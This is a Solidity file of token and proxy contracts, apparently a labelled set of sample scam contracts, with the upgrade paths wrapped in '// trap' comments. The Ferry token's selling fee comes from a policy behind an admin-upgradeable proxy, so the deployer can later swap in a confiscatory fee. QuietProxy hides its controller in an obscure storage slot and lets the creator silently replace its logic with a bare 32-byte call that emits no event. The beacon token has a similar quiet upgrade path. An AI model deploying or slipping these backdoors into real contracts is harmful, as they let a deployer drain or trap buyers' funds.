// 0.8 runs=200 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.16;

interface IFactory2 {
    function createPair(address a, address b) external returns (address);
}

/// A contract in front of another, as it is in the standard.
contract FeePolicyProxy {
    bytes32 private constant IMPL = bytes32(uint256(keccak256("eip1967.proxy.implementation")) - 1);
    bytes32 private constant ADMIN = bytes32(uint256(keccak256("eip1967.proxy.admin")) - 1);
    event Upgraded(address indexed implementation);

    constructor(address logic) {
        _write(IMPL, logic);
        _write(ADMIN, msg.sender);
        emit Upgraded(logic);
    }

    function _read(bytes32 slot) private view returns (address value) {
        assembly {
            value := sload(slot)
        }
    }

    function _write(bytes32 slot, address value) private {
        assembly {
            sstore(slot, value)
        }
    }

    // trap {
    function upgradeTo(address logic) external {
        require(msg.sender == _read(ADMIN), "proxy: admin");
        _write(IMPL, logic);
        emit Upgraded(logic);
    }
    // trap }

    fallback() external payable {
        address logic = _read(IMPL);
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), logic, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(ok) {
                revert(0, returndatasize())
            }
            return(0, returndatasize())
        }
    }
}

contract FeePolicy {
    function quote(address, address, uint256 value) external pure returns (uint256) {
        return (value * 2) / 100;
    }
}

/// The token is fixed, and so is whom it asks for the fee.
contract Ferry {
    string public constant name = "Ferry";
    string public constant symbol = "FERRY";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 40_000_000 ether;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    FeePolicy public immutable policy;
    address public immutable pair;
    address private immutable _captain = msg.sender;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed from, address indexed spender, uint256 value);

    constructor(FeePolicy which) {
        policy = which;
        pair = IFactory2(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _go(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        return _go(from, to, value);
    }

    function _go(address from, address to, uint256 value) private returns (bool) {
        uint256 fee = to == pair && from != _captain ? policy.quote(from, to, value) : 0;
        balanceOf[from] -= value;
        balanceOf[to] += value - fee;
        emit Transfer(from, to, value - fee);
        if (fee > 0) {
            balanceOf[_captain] += fee;
            emit Transfer(from, _captain, fee);
        }
        return true;
    }
}

/// The code behind both proxies.
contract TokenLogic {
    mapping(address => uint256) private _balances;
    mapping(address => mapping(address => uint256)) private _allowed;
    uint256 public totalSupply;
    string public name;
    string public symbol;
    bool private _ready;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed from, address indexed spender, uint256 value);

    constructor() {
        _ready = true;
    }

    function initialize(string calldata n, string calldata s, uint256 supply, address to) external {
        require(!_ready, "initialized");
        _ready = true;
        (name, symbol, totalSupply) = (n, s, supply);
        _balances[to] = supply;
        emit Transfer(address(0), to, supply);
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function balanceOf(address who) external view returns (uint256) {
        return _balances[who];
    }

    function allowance(address from, address spender) external view returns (uint256) {
        return _allowed[from][spender];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        _allowed[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _move(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        _allowed[from][msg.sender] -= value;
        return _move(from, to, value);
    }

    function _move(address from, address to, uint256 value) private returns (bool) {
        _balances[from] -= value;
        _balances[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}

/// Who commands and what is run lie where nobody looks, and a word of few bytes changes it.
contract QuietProxy {
    bytes32 private constant PLACE = keccak256("quiet.harbour.berth");

    constructor(address logic) {
        bytes32 place = PLACE;
        assembly {
            sstore(place, logic)
            sstore(add(place, 1), caller())
        }
    }

    receive() external payable {}

    fallback() external payable {
        bytes32 place = PLACE;
        assembly {
            // trap {
            if and(eq(calldatasize(), 32), eq(caller(), sload(add(place, 1)))) {
                sstore(place, calldataload(0))
                stop()
            }
            // trap }
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), sload(place), 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(ok) {
                revert(0, returndatasize())
            }
            return(0, returndatasize())
        }
    }
}

/// One lamp for all tokens of its maker.
contract Lighthouse {
    address public implementation;
    address private immutable _warden = msg.sender;

    constructor(address logic) {
        implementation = logic;
    }

    // trap {
    function relight(address logic) external {
        require(msg.sender == _warden && logic.code.length > 0, "lamp");
        implementation = logic;
    }
    // trap }
}

contract BeaconToken {
    Lighthouse private immutable _lamp;

    constructor(Lighthouse lamp) {
        _lamp = lamp;
    }

    receive() external payable {}

    fallback() external payable {
        address logic = _lamp.implementation();
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), logic, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(ok) {
                revert(0, returndatasize())
            }
            return(0, returndatasize())
        }
    }
}
